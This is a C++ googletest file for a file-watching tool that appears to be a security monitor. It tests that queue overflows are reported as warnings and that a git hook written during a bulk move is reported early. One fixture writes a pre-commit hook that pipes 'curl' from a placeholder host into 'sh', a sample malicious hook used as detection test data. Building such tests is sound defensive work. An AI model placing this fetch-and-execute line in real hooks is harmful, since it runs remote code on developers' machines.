// More than the watcher can hold at once: an overflowed kernel queue is a warning and every file is
// still reported; a huge folder moved in neither hides a hook written right after it nor loses a file.

#include "WatcherHarness.h"

#include <csignal>
#include <cstdlib>
#include <ctime>
#include <gtest/gtest.h>
#include <sys/stat.h>

namespace tw::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

TEST(TwwatchOverflow, EveryFileStillReportedWithAWarning)
{
    TempDir root, outside;
    fs::create_directories(outside / "pkg/lib");
    writeFile(outside / "pkg/lib/old.js", "x");
    fs::create_directories(root / "old");
    writeFile(root / "old/untouched", "x");
    Watcher watcher;
    ASSERT_TRUE(watcher.watch({root.path()}));

    // Let old.js become older than the rescan's margin, so only moving in can make it count.
    ASSERT_TRUE(waitUntil([&] {
        struct stat st;
        return ::stat((outside / "pkg/lib/old.js").c_str(), &st) == 0 && ::time(nullptr) - st.st_ctime >= 3;
    }));
    ASSERT_TRUE(watcher.sync(root.path()));

    const int files = std::stoi(readFile("/proc/sys/fs/inotify/max_queued_events")) + 4000;
    if (files > 200000)
        GTEST_SKIP() << "the kernel's event queue is too large to overflow quickly here";
    std::set<std::string> expected;
    watcher.signal(SIGSTOP);
    // Half in folders made while the watcher is stopped, half in the root.
    for (int d = 0; d < 20; ++d)
        fs::create_directories(root / ("new" + std::to_string(d)));
    for (int i = 0; i < files; ++i) {
        const fs::path path = i % 2 ? root / ("new" + std::to_string(i % 20)) / ("f" + std::to_string(i))
                                    : root / ("f" + std::to_string(i));
        writeFile(path, "x");
        expected.insert(path.string());
    }
    // A directory with old files moved in during the gap: its files' status times say nothing.
    fs::rename(outside / "pkg", root / "pkg");
    expected.insert((root / "pkg/lib/old.js").string());
    watcher.signal(SIGCONT);

    EXPECT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
        return l.rule == "watch_queue_overflow" && l.severity == "warning" && l.path == root.path().string();
    }));
    EXPECT_TRUE(watcher.waitForPaths(expected, 120s));
    // Only what changed during the gap is reported again, not the whole tree.
    EXPECT_TRUE(watcher.linesFor((root / "old/untouched").string()).size() <= 1);
    writeFile(root / "new3/after", "x");
    EXPECT_TRUE(watcher.sees(root / "new3/after"));
}

TEST(TwwatchBulkMove, HookWrittenDuringALargeMoveComesFirst)
{
    constexpr int folders = 20, filesPerFolder = 1000;
    TempDir root, outside;
    fs::create_directories(root / ".git/hooks");
    std::set<std::string> bulk;
    for (int d = 0; d < folders; ++d) {
        const fs::path dir = outside / "bulk" / ("d" + std::to_string(d));
        fs::create_directories(dir);
        for (const auto& path : makeFiles(dir, filesPerFolder))
            bulk.insert(root.path().string() + path.substr(outside.path().string().size()));
    }
    // A bound far below the move's size, so that it is hit over and over.
    ::setenv("TWWATCH_PENDING_LIMIT", "1000", 1);
    Watcher watcher;
    ::unsetenv("TWWATCH_PENDING_LIMIT");
    ASSERT_TRUE(watcher.watch({root.path()}));

    fs::rename(outside / "bulk", root / "bulk");
    const std::string hook = (root / ".git/hooks/pre-commit").string();
    writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
    // An ordinary file changed meanwhile finds no room: it must still come, if later.
    const std::string notes = (root / "notes.txt").string();
    writeFile(notes, "x");

    ASSERT_TRUE(watcher.waitForPaths({hook}, 120s));
    size_t bulkBeforeHook = 0;
    for (const auto& line : watcher.lines()) {
        if (line.path == hook)
            break;
        bulkBeforeHook += bulk.count(line.path);
    }
    EXPECT_LT(bulkBeforeHook, bulk.size() / 2) << "the hook waited behind the moved files";
    // Nothing of the move is lost on the way.
    bulk.insert(notes);
    EXPECT_TRUE(watcher.waitForPaths(bulk, 180s));
}

} // namespace
} // namespace tw::test
